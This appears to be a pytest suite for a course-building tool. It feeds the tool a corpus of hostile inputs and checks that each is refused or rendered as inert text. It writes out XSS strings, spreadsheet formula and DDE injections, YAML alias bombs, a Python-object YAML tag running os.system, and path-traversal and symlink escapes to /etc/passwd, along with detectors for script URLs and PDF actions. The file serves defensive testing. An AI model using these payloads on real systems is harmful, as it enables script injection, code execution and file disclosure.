"""A generated corpus of hostile and broken courses: each is refused cleanly or built safely.

Every case is the scaffold course (plus a video, a text and a numeric problem) with ONE mutation:
an injection payload in one text field, or one broken or hostile input (alias bombs, control
characters, NaN, path escapes, symlinks, bad encodings, empty or binary files, duplicate ids…).
Each case declares what must happen:

- ``error``: ``load_course`` raises ``SourceErrors`` naming the expected file, and nothing else
  escapes (no other exception type, no hang);
- ``safe``: the course loads, every target renders, and every output is safe to ship: each XML
  member parses, each OLX HTML fragment is well-formed, each SCORM page carries only our three
  scripts and its ``cp-data`` JSON parses without NaN, no ``href``/``src`` is a script URL, no CSV
  cell starts a formula, and no Jinja-looking text was evaluated.

A few cases also run the real CLI in a subprocess under a 1 GB address-space limit and a timeout.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pypdf
import pytest
from lxml import etree
from lxml import html as lxml_html

from builder import xmlsafe
from builder.csvsafe import FORMULA_START
from builder.diagnostics import SourceErrors
from builder.model import Course
from builder.report.coverage import coverage, to_csv, to_html, to_json
from builder.scaffold import scaffold
from builder.source import load_course
from builder.targets import TARGETS, BuildOptions, renderer

UNIT = "outline/01-getting-started/01-first-steps/01-welcome.md"
SUBSECTION = "outline/01-getting-started/01-first-steps/subsection.yaml"
SECTION = "outline/01-getting-started/section.yaml"
SESSION = "outline/01-getting-started/01-first-steps/session.yaml"
COMPETENCES = "competences.yaml"
COURSE = "course.yaml"

EXTRA_BLOCKS = """

```video
id: v-intro
title: Intro video
youtube: dQw4w9WgXcQ
```

```problem
id: p-text
type: text
title: Text question
prompt: What does KPI stand for?
answers: [key performance indicator]
assesses: [MY.U1.K1]
```

```problem
id: p-num
type: numeric
prompt: What is 10% of 240?
answer: 24
tolerance: "5%"
assesses: [MY.U1.S1]
```
"""

OUR_SCRIPTS = {
    ("application/json", None),
    (None, "../shared/coursepack-ui.js"),
    (None, "../shared/coursepack.js"),
}
"""(type, src) of the scripts a SCORM page of ours carries; any other is injected."""

JINJA_MARKER = "evaluated"

# ----------------------------------------------------------------------------- mutations


def _sub(root: Path, rel: str, pattern: str, repl: str | Callable[[re.Match[str]], str]) -> None:
    path = root / rel
    text = path.read_text(encoding="utf-8")
    new, n = re.subn(pattern, repl, text, count=1, flags=re.M)
    assert n == 1, f"corpus drifted: {pattern!r} not in {rel}"
    path.write_text(new, encoding="utf-8")


def _append(root: Path, rel: str, text: str) -> None:
    path = root / rel
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def _write(rel: str, data: bytes | str) -> Callable[[Path], None]:
    def mutate(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))

    return mutate


def _set_yaml(rel: str, pattern: str) -> Callable[[Path, str], None]:
    """Replace the value matched by ``pattern`` (group 1 the prefix, optional group 2 a suffix)
    with the payload as a YAML double-quoted scalar."""

    def inject(root: Path, payload: str) -> None:
        def repl(m: re.Match[str]) -> str:
            suffix = m.group(2) if m.lastindex and m.lastindex >= 2 else ""
            return m.group(1) + json.dumps(payload) + suffix

        _sub(root, rel, pattern, repl)

    return inject


def _markdown(rel: str, anchor: str) -> Callable[[Path, str], None]:
    def inject(root: Path, payload: str) -> None:
        _sub(root, rel, re.escape(anchor), lambda m: payload + " " + m.group(0))

    return inject


TEXT_FIELDS: dict[str, Callable[[Path, str], None]] = {
    "course.title": _set_yaml(COURSE, r"^(title: ).*$"),
    "course.short_description": _set_yaml(COURSE, r"^(short_description: ).*$"),
    "section.title": _set_yaml(SECTION, r"^(title: ).*$"),
    "subsection.title": _set_yaml(SUBSECTION, r"^(title: ).*$"),
    "unit.title": _set_yaml(UNIT, r"^(title: )Welcome$"),
    "unit.prose": _markdown(UNIT, "A course is an"),
    "overview.prose": _markdown("overview.md", "A small course"),
    "problem.title": _set_yaml(UNIT, r"^(title: )Text question$"),
    "problem.prompt": _set_yaml(UNIT, r"^(prompt: )How many.*$"),
    "problem.choice": _set_yaml(UNIT, r"^(  - text: )Three.*$"),
    "problem.feedback": _set_yaml(UNIT, r"^(    feedback: )Right\.$"),
    "problem.hint": _set_yaml(UNIT, r"^(  - )Look at.*$"),
    "problem.explanation": _set_yaml(UNIT, r"^(explanation: ).*$"),
    "problem.text_answer": _set_yaml(UNIT, r"^(answers: \[)key performance indicator(\])$"),
    "video.title": _set_yaml(UNIT, r"^(title: )Intro video$"),
    "course.license": _set_yaml(COURSE, r"^(license: ).*$"),
    "grader.short_label": _set_yaml(COURSE, r"^(    - \{type: Quiz, short_label: )Q(, min_count)"),
    "framework.version": _set_yaml(COMPETENCES, r'^(  version: )"1.0"$'),
    "framework.licence": _set_yaml(COMPETENCES, r"^(  licence: ).*$"),
    "framework.title": _set_yaml(COMPETENCES, r"^(  title: )My competence map$"),
    "framework.profile": _set_yaml(COMPETENCES, r"^(  profile: ).*$"),
    "ulo.title": _set_yaml(COMPETENCES, r"^(    title: )Working.*$"),
    "ulo.description": _set_yaml(COMPETENCES, r"^(    description: ).*$"),
    "outcome.statement": _set_yaml(COMPETENCES, r"^(        statement: )Describes.*$"),
    "outcome.criterion": _set_yaml(COMPETENCES, r"^(        assessment_criteria: \[)Names.*?(\])$"),
    # the trainer's handbook only (PDF via Typst, HTML)
    "trainer_note.prose": _markdown(UNIT, "Notes for trainers:"),
    "session.activity_title": _set_yaml(SESSION, r"^(    title: )Outline from memory$"),
    "session.trainer": _set_yaml(SESSION, r"^(    trainer: )Asks each.*$"),
    "session.material": _set_yaml(SESSION, r"^(  - )Sticky notes$"),
    "handbook.chapter_title": _set_yaml("handbook/index.yaml", r"^(    title: )Glossary$"),
    "handbook.prose": _markdown("handbook/approach.md", "This chapter opens"),
}

PAYLOADS: dict[str, str] = {
    "script": '<script>alert("xss")</script>',
    "close-script": "</script><script>alert(1)</script><!--",
    "attr-break": "\"'><img src=x onerror=alert(1)>",
    "cdata-end": "]]><![CDATA[x]]>",
    "jinja": '{{ "ev" ~ "aluated" }}{{ 7 * 191 }}',
    "formula": '=HYPERLINK("http://evil.example.org/?"&A1,"Click")',
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "js-url-text": "javascript:alert(1)",
    "entities": "&lt;script&gt; &#60;script&#62; &#x3C;b&#x3E; &#0; &#12;",
    "line-separators": "a\u2028b\u2029c \u202eevil",
    "typst": '#set page(width: 1cm) #panic("typeset") $x$ ] [ <l> @l \\ // /*',
}
"""Every payload in every text field: all must load and render as inert text."""

PAYLOADS_EVERYWHERE = ("script", "close-script", "attr-break", "cdata-end", "jinja", "formula")
"""Payloads tried in every text field; the others in a few representative fields only."""
FEW_FIELDS = (
    "unit.title",
    "unit.prose",
    "problem.prompt",
    "outcome.statement",
    "framework.title",
    "trainer_note.prose",
    "session.activity_title",
)


@dataclass(frozen=True)
class Case:
    name: str
    mutate: Callable[[Path], None]
    expect: str
    """``error`` or ``safe``."""
    file: str = ""
    """For ``error``: the file at least one finding names (a prefix is enough for folders)."""


def _injection_cases() -> list[Case]:
    cases = []
    for field, inject in TEXT_FIELDS.items():
        for pname, payload in PAYLOADS.items():
            if pname in PAYLOADS_EVERYWHERE or field in FEW_FIELDS:
                cases.append(Case(f"inject-{field}-{pname}", lambda r, i=inject, p=payload: i(r, p), "safe"))
    return cases


def _unit_sub(old: str, new: str) -> Callable[[Path], None]:
    return lambda r: _sub(r, UNIT, "^" + re.escape(old), new.replace("\\", "\\\\"))


def _course_sub(rel: str, old: str, new: str) -> Callable[[Path], None]:
    return lambda r: _sub(r, rel, "^" + re.escape(old), new.replace("\\", "\\\\"))


def _add_esco(uri: str) -> Callable[[Path], None]:
    anchor = "        assessment_criteria: [Names"
    return _course_sub(COMPETENCES, anchor, f"        esco: ['{uri}']\n{anchor}")


def _symlink(rel: str, target: str) -> Callable[[Path], None]:
    def mutate(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    return mutate


def _bytes_name(folder: str, name: bytes, data: bytes) -> Callable[[Path], None]:
    """A file whose name is not UTF-8 (NUL cannot be in a POSIX name; this is the nearest)."""

    def mutate(root: Path) -> None:
        fd = os.open(os.fsencode(root / folder) + b"/" + name, os.O_WRONLY | os.O_CREAT, 0o644)
        os.write(fd, data)
        os.close(fd)

    return mutate


BOMB = "\n".join(
    ["  a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    + [f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
)
PROBLEM = "```problem\nid: p-x\ntype: numeric\nprompt: Q?\nanswer: {answer}\n```\n\n## How this course"


def _broken_cases() -> list[Case]:
    unit_text = "---\nid: u-x\ntitle: X\noutcomes: [MY.U1.K1]\n---\n\nText.\n"
    c: list[Case] = [
        # near-miss component fences
        *[
            Case(f"fence-{w}", _unit_sub("```problem", f"```{w}"), "error", UNIT)
            for w in ("Problem", "problme", "PROBLEMS")
        ],
        Case("fence-vidoe", _unit_sub("```video", "```vidoe"), "error", UNIT),
        Case("fence-nested", _unit_sub("```problem", "> ```problem"), "error", UNIT),
        Case(
            "fence-yaml",
            _unit_sub("## How this course", "```yaml\nanswer: 1\n```\n\n## How this course"),
            "safe",
        ),
        # YAML bombs, recursion, depth
        Case("bomb-unknown-key", lambda r: _append(r, COURSE, "bomb:\n" + BOMB + "\n"), "error", COURSE),
        Case(
            "bomb-competences", lambda r: _append(r, COMPETENCES, "x:\n" + BOMB + "\n"), "error", COMPETENCES
        ),
        Case("bomb-problem", _unit_sub("hints:", "zz:\n" + BOMB + "\nhints:"), "error", UNIT),
        Case("alias-self", _unit_sub("outcomes: [", "outcomes: &x [*x, "), "error", UNIT),
        Case(
            "alias-merge",
            _course_sub(COURSE, "grading:", "base: &b {a: 1}\nother:\n  <<: *b\ngrading:"),
            "error",
            COURSE,
        ),
        Case(
            "deep-flow",
            _course_sub(COURSE, "license:", "license: " + "[" * 500 + "]" * 500 + "\nx_license:"),
            "error",
            COURSE,
        ),
        Case(
            "deep-block",
            lambda r: _append(
                r,
                COURSE,
                "deep:\n" + "".join("  " * i + f"k{i}:\n" for i in range(80)) + "  " * 80 + "v: 1\n",
            ),
            "error",
            COURSE,
        ),
        # sizes
        Case("huge-unit", lambda r: _append(r, UNIT, ("lorem ipsum " * 10 + "\n") * 40_000), "error", UNIT),
        Case("huge-title", _unit_sub("title: Welcome", "title: " + "W" * 5000), "error", UNIT),
        Case("long-prose", _unit_sub("A course is an", "word " * 40_000 + "A course is an"), "safe"),
        Case("deep-quotes", _unit_sub("A course is an", ">" * 300 + " deep\n\nA course is an"), "safe"),
        Case(
            "deep-lists",
            _unit_sub("A course is an", "".join("  " * i + "- x\n" for i in range(120)) + "\nA course is an"),
            "safe",
        ),
        Case(
            "many-brackets",
            _unit_sub("A course is an", "[" * 5000 + "x" + "]" * 5000 + " A course is an"),
            "safe",
        ),
        # characters XML cannot carry
        *[
            Case(
                f"char-title-{ord(ch):04x}", _unit_sub("title: Welcome", f"title: Wel{ch}come"), "error", UNIT
            )
            for ch in "\x00\x0b\x1f\x7f\ufffe\uffff"
            if ch != "\x7f"
        ],
        Case("char-body-esc", _unit_sub("A course is an", "A course\x1b is an"), "error", UNIT),
        Case(
            "char-yaml-escape",
            _unit_sub("prompt: How many levels does a course outline have?", 'prompt: "How \\x0c many?"'),
            "error",
            UNIT,
        ),
        Case(
            "char-competences",
            _course_sub(COMPETENCES, "  profile: Course graduate", "  profile: Course\x08graduate"),
            "error",
            COMPETENCES,
        ),
        Case("char-overview", lambda r: _append(r, "overview.md", "\nbell\x07\n"), "error", "overview.md"),
        Case(
            "char-del-yaml", _unit_sub("title: Welcome", "title: Wel\x7fcome"), "error", UNIT
        ),  # libyaml refuses
        Case("char-del-prose", _unit_sub("A course is an", "A course\x7f is an"), "safe"),  # valid XML 1.0
        Case(
            "crlf-tabs",
            lambda r: (r / UNIT).write_bytes((r / UNIT).read_bytes().replace(b"\n", b"\r\n")),
            "safe",
        ),
        # non-finite numbers
        *[
            Case(f"nan-answer-{a}", _unit_sub("## How this course", PROBLEM.format(answer=a)), "error", UNIT)
            for a in (".nan", ".inf", "-.inf", '"NaN"', "1.0e+999")
        ],
        Case("inf-weight", _unit_sub("max_attempts: 2", "max_attempts: 2\nweight: .inf"), "error", UNIT),
        Case("inf-hours", _course_sub(COMPETENCES, "    hours: 25", "    hours: .inf"), "error", COMPETENCES),
        Case(
            "nan-points",
            _course_sub(COMPETENCES, "    ecvet_points: 1", "    ecvet_points: .nan"),
            "error",
            COMPETENCES,
        ),
        Case(
            "inf-grader-weight",
            _course_sub(
                COURSE,
                "    - {type: Quiz, short_label: Q, min_count: 1, drop_count: 0, weight: 1.0}",
                "    - {type: Quiz, short_label: Q, min_count: 1, drop_count: 0, weight: .inf}",
            ),
            "error",
            COURSE,
        ),
        Case("nan-tolerance", _unit_sub('tolerance: "5%"', "tolerance: .nan"), "error", UNIT),
        # URI schemes
        Case(
            "esco-javascript",
            _add_esco("javascript:alert(1)"),
            "error",
            COMPETENCES,
        ),
        Case(
            "esco-ftp",
            _add_esco("ftp://data.europa.eu/esco/skill/x"),
            "error",
            COMPETENCES,
        ),
        Case(
            "esco-ok",
            _add_esco("http://data.europa.eu/esco/skill/abc-123"),
            "safe",
        ),
        Case(
            "base-uri-javascript",
            _course_sub(COMPETENCES, "  base_uri: ", "  base_uri: javascript:alert(1)//"),
            "error",
            COMPETENCES,
        ),
        Case("mp4-javascript", _unit_sub("youtube: dQw4w9WgXcQ", "mp4: javascript:alert(1)"), "error", UNIT),
        Case(
            "mp4-quote",
            _unit_sub("youtube: dQw4w9WgXcQ", "mp4: 'https://x.org/a.mp4\"onerror=\"alert(1)'"),
            "error",
            UNIT,
        ),
        Case("youtube-inject", _unit_sub("youtube: dQw4w9WgXcQ", "youtube: '\"><script>'"), "error", UNIT),
        Case(
            "md-link-javascript",
            _unit_sub("A course is an", "[x](javascript:alert(1)) A course is an"),
            "safe",
        ),
        Case(
            "md-autolink-javascript",
            _unit_sub("A course is an", "<javascript:alert(1)> A course is an"),
            "safe",
        ),
        Case(
            "md-image-data",
            _unit_sub("A course is an", "![x](data:image/png;base64,AAAA) A course is an"),
            "error",
            UNIT,
        ),
        Case(
            "md-link-protocol-relative",
            _unit_sub("A course is an", "[x](//evil.example.org/) A course is an"),
            "error",
            UNIT,
        ),
        Case(
            "md-link-file",
            _unit_sub("A course is an", "[x](file:///etc/passwd) A course is an"),
            "safe",
        ),
        Case(
            "md-raw-html",
            _unit_sub("A course is an", '<iframe src="https://evil.example.org"></iframe>\n\nA course is an'),
            "safe",
        ),
        # paths
        Case(
            "image-traversal",
            _course_sub(COURSE, "image: ", "image: ../../../../etc/passwd\nx_image: "),
            "error",
            COURSE,
        ),
        Case(
            "image-absolute", _course_sub(COURSE, "image: ", "image: /etc/passwd\nx_image: "), "error", COURSE
        ),
        Case(
            "image-windows",
            _course_sub(COURSE, "image: ", "image: 'C:\\Windows\\win.ini'\nx_image: "),
            "error",
            COURSE,
        ),
        Case(
            "overview-traversal",
            _course_sub(COURSE, "overview: overview.md", "overview: ../overview.md"),
            "error",
            COURSE,
        ),
        Case(
            "map-absolute",
            _course_sub(COURSE, "competence_map: competences.yaml", "competence_map: /etc/hostname"),
            "error",
            COURSE,
        ),
        Case(
            "md-link-traversal",
            _unit_sub("A course is an", "[x](../../../../../../etc/passwd) A course is an"),
            "error",
            UNIT,
        ),
        Case(
            "md-image-static-escape",
            _unit_sub("A course is an", "![x](/static/../../../../etc/passwd) A course is an"),
            "error",
            UNIT,
        ),
        Case(
            "transcript-traversal",
            _unit_sub("youtube: dQw4w9WgXcQ", "youtube: dQw4w9WgXcQ\ntranscripts: {en: ../../../etc/passwd}"),
            "error",
            UNIT,
        ),
        Case("id-traversal-unit", _unit_sub("id: u-welcome", "id: ../../evil"), "error", UNIT),
        Case("id-traversal-problem", _unit_sub("id: p-outline-levels", "id: 'a/../../b'"), "error", UNIT),
        Case(
            "id-slash-section", _course_sub(SECTION, "id: s-getting-started", "id: s/evil"), "error", SECTION
        ),
        Case("id-nul-escape", _unit_sub("id: p-outline-levels", 'id: "p\\x00"'), "error", UNIT),
        Case("id-jinja", _unit_sub("id: p-outline-levels", "id: '{{ 7*7 }}'"), "error", UNIT),
        # links and odd file names
        Case(
            "symlink-static",
            _symlink("static/images/evil.png", "/etc/passwd"),
            "error",
            "static/images/evil.png",
        ),
        Case(
            "symlink-unit",
            _symlink("outline/01-getting-started/01-first-steps/02-evil.md", "/etc/passwd"),
            "error",
            "outline/01-getting-started/01-first-steps/02-evil.md",
        ),
        Case("symlink-section", _symlink("outline/02-evil", "/etc"), "error", "outline/02-evil"),
        Case(
            "symlink-course-yaml",
            lambda r: ((r / COURSE).rename(r / "real.yaml"), (r / COURSE).symlink_to(r / "real.yaml")),
            "error",
            COURSE,
        ),
        Case(
            "name-not-utf8-unit",
            _bytes_name("outline/01-getting-started/01-first-steps", b"02-\xff\xfe.md", unit_text.encode()),
            "error",
            "outline/01-getting-started/01-first-steps/02-",
        ),
        Case("name-not-utf8-static", _bytes_name("static", b"\xff.png", b"x"), "error", "static/"),
        Case("name-odd-static", _write("static/a b&c.png", b"x"), "error", "static/a b&c.png"),
        # encodings and garbage
        Case("bom-unit", lambda r: (r / UNIT).write_bytes(b"\xef\xbb\xbf" + (r / UNIT).read_bytes()), "safe"),
        Case(
            "bom-competences",
            lambda r: (r / COMPETENCES).write_bytes(b"\xef\xbb\xbf" + (r / COMPETENCES).read_bytes()),
            "safe",
        ),
        Case(
            "latin1-unit",
            lambda r: (r / UNIT).write_bytes((r / UNIT).read_bytes().replace(b"Welcome", b"Caf\xe9")),
            "error",
            UNIT,
        ),
        Case(
            "utf16-course",
            lambda r: (r / COURSE).write_bytes((r / COURSE).read_text().encode("utf-16")),
            "error",
            COURSE,
        ),
        Case("garbage-unit", _write(UNIT, bytes(range(256)) * 8), "error", UNIT),
        Case("garbage-course", _write(COURSE, b"\x89PNG\r\n\x1a\n" + bytes(range(200))), "error", COURSE),
        Case("garbage-static-html", _write("static/page.html", bytes(range(256))), "safe"),
        *[
            Case(f"empty-{n}", _write(rel, b""), "error", rel)
            for n, rel in (
                ("unit", UNIT),
                ("course", COURSE),
                ("competences", COMPETENCES),
                ("section", SECTION),
                ("subsection", SUBSECTION),
            )
        ],
        Case("empty-overview", _write("overview.md", b""), "safe"),
        Case("yaml-not-mapping", _write(SECTION, "- a\n- b\n"), "error", SECTION),
        Case(
            "yaml-python-tag",
            _write(SECTION, "id: !!python/object/apply:os.system ['echo pwned']\ntitle: x\n"),
            "error",
            SECTION,
        ),
        Case("front-matter-unclosed", _write(UNIT, "---\nid: u-x\ntitle: X\n"), "error", UNIT),
        # duplicate ids
        Case("dup-problem-id", _unit_sub("id: p-text", "id: p-outline-levels"), "error", UNIT),
        Case("dup-unit-problem-id", _unit_sub("id: p-num", "id: u-welcome"), "error", UNIT),
        Case(
            "dup-section-subsection-id",
            _course_sub(SUBSECTION, "id: ss-first-steps", "id: s-getting-started"),
            "error",
            "",
        ),
        Case(
            "dup-outcome-id",
            _course_sub(COMPETENCES, "      - id: MY.U1.S1", "      - id: MY.U1.K1"),
            "error",
            COMPETENCES,
        ),
        Case("dup-key", _unit_sub("title: Welcome", "title: Welcome\ntitle: Again"), "error", UNIT),
        # static files with script: shipped, warned about by check (never inside our pages)
        Case(
            "static-html-script",
            _write("static/page.html", "<script>alert(document.cookie)</script>"),
            "safe",
        ),
        Case(
            "static-svg-onload",
            _write("static/images/x.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
            "safe",
        ),
    ]
    return c


CASES = _injection_cases() + _broken_cases()


# ----------------------------------------------------------------------------- the checks


@pytest.fixture(scope="session")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("corpus") / "base"
    scaffold(root)
    _append(root, UNIT, EXTRA_BLOCKS)
    load_course(root)  # the base itself is valid
    return root


def _no_nan(text: str) -> object:
    def refuse(name: str) -> object:
        raise AssertionError(f"non-finite number {name} in JSON")

    return json.loads(text, parse_constant=refuse)


def _check_html_page(name: str, data: bytes) -> None:
    doc = lxml_html.document_fromstring(data)
    scripts = {(s.get("type"), s.get("src")) for s in doc.iter("script")}
    assert len(list(doc.iter("script"))) == 3 and scripts == OUR_SCRIPTS, f"{name}: scripts {scripts}"
    cp_data = doc.get_element_by_id("cp-data")
    _no_nan(cp_data.text)


def _check_urls(name: str, root: etree._Element) -> None:
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        for attr, value in el.attrib.items():
            local = attr.rsplit("}", 1)[-1].lower()
            if local in ("href", "src", "action", "formaction", "poster") or local.startswith("on"):
                assert not local.startswith("on"), f"{name}: event handler attribute {attr}"
                v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not v.startswith(("javascript:", "vbscript:", "data:text")), (
                    f"{name}: {attr}={value!r}"
                )


def _check_csv(name: str, data: bytes) -> None:
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"{name}: formula cell {cell!r}"


def _check_pdf(name: str, data: bytes) -> None:
    """The trainer's handbook: course text is typeset, never an action a PDF viewer runs."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    assert len(reader.pages) > 1, name
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root and "/AcroForm" not in root, name
    assert "/JavaScript" not in root.get("/Names", {}), name
    for page in reader.pages:
        assert "/AA" not in page, name
        for annot in page.get("/Annots", []) or []:
            action = annot.get_object().get("/A")
            if action is None:
                continue
            assert action["/S"] in ("/URI", "/GoTo"), f"{name}: {action['/S']} action"
            if action["/S"] == "/URI":
                uri = re.sub(r"[\s\x00-\x1f]", "", str(action["/URI"])).lower()
                assert uri.startswith(("http://", "https://", "mailto:")), f"{name}: {uri!r}"


def _assert_outputs_safe(course: Course) -> None:
    members: dict[str, bytes] = {}
    for target in TARGETS:
        for output in renderer(target)(course, BuildOptions()):
            for path, member in output.members.items():
                if isinstance(member, bytes):
                    members[f"{output.filename}!{path}"] = member
    cov = coverage(course)
    members["coverage.html"], members["coverage.csv"], members["coverage.json"] = (
        to_html(cov),
        to_csv(cov),
        to_json(cov),
    )
    for name, data in members.items():
        if name.endswith(".pdf"):
            _check_pdf(name, data)
            continue
        text = data.decode("utf-8")  # every text output is UTF-8
        assert JINJA_MARKER not in text, f"{name}: template text was evaluated"
        inner = name.rsplit("!", 1)[-1]
        if inner.endswith(".xml") or inner.endswith(".xsd"):
            _check_urls(name, xmlsafe.parse(data))
        elif ".olx." in name and inner.endswith(".html"):
            root = xmlsafe.parse(b"<div>" + data + b"</div>")
            assert not list(root.iter("script")), f"{name}: script in an HTML component"
            _check_urls(name, root)
        elif inner.startswith("sco/") and inner.endswith(".html"):
            _check_html_page(name, data)
            _check_urls(name, lxml_html.document_fromstring(data))
        elif inner.endswith(".html"):
            doc = lxml_html.document_fromstring(data)
            assert not list(doc.iter("script")), f"{name}: script"
            _check_urls(name, doc)
        elif inner.endswith(".csv"):
            _check_csv(name, data)
        elif inner.endswith(".json"):
            _no_nan(text)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_course(case: Case, base: Path, tmp_path: Path) -> None:
    root = tmp_path / "c"
    shutil.copytree(base, root, symlinks=True)
    case.mutate(root)
    if case.expect == "error":
        with pytest.raises(SourceErrors) as exc:
            load_course(root)
        diags = exc.value.diagnostics
        assert all(d.file and d.severity == "error" for d in diags)
        assert any(d.file.startswith(case.file) for d in diags), "\n".join(map(str, diags))
        for d in diags:
            str(d).encode("utf-8")  # printable: no lone surrogates from odd file names
    else:
        _assert_outputs_safe(load_course(root))


def test_corpus_is_large_and_mixed() -> None:
    assert len(CASES) >= 150
    assert {c.expect for c in CASES} == {"error", "safe"}
    assert len({c.name for c in CASES}) == len(CASES)


# ----------------------------------------------------------------------------- the real CLI

MEMORY_LIMIT = 1024**3
CLI_FAST = ["bomb-unknown-key", "alias-self", "inject-unit.prose-script"]
CLI_SLOW = [
    "deep-flow",
    "huge-unit",
    "nan-answer-.nan",
    "char-title-0000",
    "fence-Problem",
    "name-not-utf8-unit",
    "garbage-unit",
]
CLI_CASES = [*CLI_FAST, *[pytest.param(n, marks=pytest.mark.slow) for n in CLI_SLOW]]
"""Each starts a Python process (about a second); the ones beyond the first three are ``slow``."""


PEAK_RSS_LIMIT = 500 * 2**20
"""Issue 7: no input may make a command use more than 500 MB (the largest process, workers included)."""


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def _run_measured(args: list[str], timeout: float) -> tuple[int, str, int]:
    """Run the CLI; return its exit code, stderr and the peak RSS in bytes of it and its workers.

    ``os.wait4`` reports the largest resident set of the child and of every descendant it reaped
    (the build's worker processes), which ``subprocess.run`` cannot give. A hang is killed and fails.
    """
    with tempfile.TemporaryFile() as err:
        proc = subprocess.Popen(
            args,
            stdout=subprocess.DEVNULL,
            stderr=err,
            preexec_fn=_limit_memory,
            env={**os.environ, "PYTHONHASHSEED": "0"},
        )
        timer = threading.Timer(timeout, proc.kill)
        timer.start()
        try:
            _, status, usage = os.wait4(proc.pid, 0)
        finally:
            timer.cancel()
        proc.returncode = os.waitstatus_to_exitcode(status)
        assert proc.returncode != -signal.SIGKILL, f"no answer within {timeout} s: {args}"
        err.seek(0)
        return proc.returncode, err.read().decode("utf-8", "replace"), usage.ru_maxrss * 1024


@pytest.mark.parametrize("name", CLI_CASES)
def test_cli_under_a_memory_limit(name: str, base: Path, tmp_path: Path) -> None:
    case = next(c for c in CASES if c.name == name)
    root = tmp_path / "c"
    shutil.copytree(base, root, symlinks=True)
    case.mutate(root)
    command = "check" if case.expect == "error" else "build"
    args = [sys.executable, "-m", "builder.cli", command, str(root)]
    if command == "build":
        args += ["--out", str(tmp_path / "dist")]
    returncode, stderr, peak = _run_measured(args, timeout=60)
    assert "Traceback" not in stderr, stderr
    assert peak <= PEAK_RSS_LIMIT, f"peak RSS {peak / 2**20:.0f} MB over {PEAK_RSS_LIMIT / 2**20:.0f} MB"
    if case.expect == "error":
        assert returncode == 1, stderr
        assert case.file.split("/")[0] in stderr
    else:
        assert returncode == 0, stderr
